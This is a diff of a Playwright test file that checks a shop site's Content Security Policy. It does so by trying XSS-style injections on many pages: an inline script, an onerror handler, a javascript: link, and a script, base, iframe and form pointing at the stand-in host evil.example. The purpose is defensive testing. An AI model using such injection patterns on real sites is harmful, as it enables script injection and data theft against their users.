@@ -1,57 +1,18 @@
-import { expect, test } from '@playwright/test'
+import { attempts, tryEverything } from '../support/foreign-attempts.ts'
 import { pageKinds } from '../support/page-kinds.ts'
 import { policyViolations, refusedInConsole } from '../support/policy-violations.ts'
+import { expect, type Page, test } from '../support/test.ts'
 import { readTestEnv } from '../support/test-env.ts'
 import { visit } from '../support/visitor.ts'
+import { back, withoutDatabase } from '../support/without-database.ts'
+
+test.use({ provokesPolicy: true })
 
 const stored = '/apparaty'
 const visited = '/cart'
 const missing = '/net-takoy-stranitsy'
 
-/** What somebody would try who found a way to put something into a page. Each says so in the title if it runs. */
-const attempts: Record<string, () => void> = {
-  'an inline script': () => {
-    const script = document.createElement('script')
-    script.textContent = "document.title = 'ran'"
-    document.body.append(script)
-  },
-  'a handler': () => {
-    const box = document.createElement('div')
-    box.innerHTML = '<img src="/nothing.png" onerror="document.title = \'ran\'">'
-    document.body.append(box)
-  },
-  'a javascript: link': () => {
-    const link = document.createElement('a')
-    link.href = "javascript:document.title = 'ran'"
-    document.body.append(link)
-    link.click()
-  },
-  'a script of others': () => {
-    const script = document.createElement('script')
-    script.src = 'https://evil.example/x.js'
-    document.body.append(script)
-  },
-  'another base': () => {
-    const base = document.createElement('base')
-    base.href = 'https://evil.example/'
-    document.head.append(base)
-    if (document.baseURI.startsWith('https://evil')) document.title = 'ran'
-  },
-  'a frame': () => {
-    const frame = document.createElement('iframe')
-    frame.src = 'https://evil.example/'
-    document.body.append(frame)
-  },
-  'a form that is sent to others': () => {
-    const form = document.createElement('form')
-    form.action = 'https://evil.example/'
-    form.method = 'post'
-    document.body.append(form)
-    HTMLFormElement.prototype.submit.call(form)
-  },
-}
-
-const { fullSize } = readTestEnv()
+const { fullSize, webUrl } = readTestEnv()
 const some = [stored, `/kk${stored}`, visited, missing, '/feedback', '/hearing-screener']
 const all = Object.values(pageKinds).flatMap(([path = '/']) => [path, `/kk${path === '/' ? '' : path}`])
 
@@ -60,15 +21,50 @@ for (const address of fullSize ? all : some) {
     const refused = await policyViolations(page)
     await page.goto(address)
     expect(refused).toEqual([])
-    for (const [name, attempt] of Object.entries(attempts)) {
-      refused.length = 0
-      await page.evaluate(attempt)
-      await expect.poll(() => refused.length, { message: name }).toBeGreaterThan(0)
-      expect(await page.title(), name).not.toBe('ran')
-      expect(new URL(page.url()).pathname, name).toBe(new URL(address, page.url()).pathname)
-    }
+    await tryEverything(page, refused)
   })
 }
+
+/** What the shop answered for the page's own address; the browser itself tells of the page that it has already. */
+async function answered(page: Page): Promise<() => number[]> {
+  const statuses: number[] = []
+  const devTools = await page.context().newCDPSession(page)
+  await devTools.send('Network.enable')
+  const documents = new Set<string>()
+  devTools.on('Network.requestWillBeSent', ({ requestId, type }) => type === 'Document' && documents.add(requestId))
+  devTools.on(
+    'Network.responseReceivedExtraInfo',
+    ({ requestId, statusCode }) => documents.has(requestId) && statuses.push(statusCode),
+  )
+  return () => statuses
+}
+
+for (const address of [stored, `/kk${stored}`, '/']) {
+  test(`on ${address}, which a browser has already, nothing runs that is not ours either`, async ({ page }) => {
+    const refused = await policyViolations(page)
+    const statuses = await answered(page)
+    await page.goto(address)
+    await page.reload()
+    await expect.poll(statuses).toEqual([200, 304])
+    expect(refused).toEqual([])
+    await tryEverything(page, refused)
+  })
+}
+
+test('nor on the pages that tell of a fault of ours', async ({ page, context }) => {
+  const refused = await policyViolations(page)
+  const cookies = { session: 'a'.repeat(43), cart: `c${'a'.repeat(32)}x1` }
+  await context.addCookies(Object.entries(cookies).map(([name, value]) => ({ name, value, url: webUrl })))
+  await withoutDatabase(async () => {
+    for (const path of ['/user', '/kk/user', '/cart', '/kk/cart']) {
+      refused.length = 0
+      expect((await page.goto(path))?.status(), path).toBeGreaterThanOrEqual(500)
+      expect(refused, path).toEqual([])
+      await tryEverything(page, refused)
+    }
+  })
+  await back('/zapisnapriem')
+})
 
 test('from a page made for a visit to one that is kept, and back, everything runs', async ({ page }) => {
   const refused = await policyViolations(page)
@@ -126,9 +122,13 @@ for (const javaScriptEnabled of [true, false])
     })
   })
 
-test('what browsers refused is taken note of', async ({ page }) => {
+test('what browsers refused is told of by the address of its page, and taken note of', async ({ page }) => {
   const told = page.waitForRequest((request) => request.url().endsWith('/api/policy-reports'))
-  await page.goto(stored)
+  await page.goto(`/kk${stored}`)
   await page.evaluate(attempts['an inline script'] as () => void)
-  expect((await (await told).response())?.status()).toBe(204)
+  const report = await told
+  expect(report.postDataJSON()).toMatchObject({
+    'csp-report': { 'document-uri': page.url(), 'violated-directive': 'script-src-elem' },
+  })
+  expect((await report.response())?.status()).toBe(204)
 })
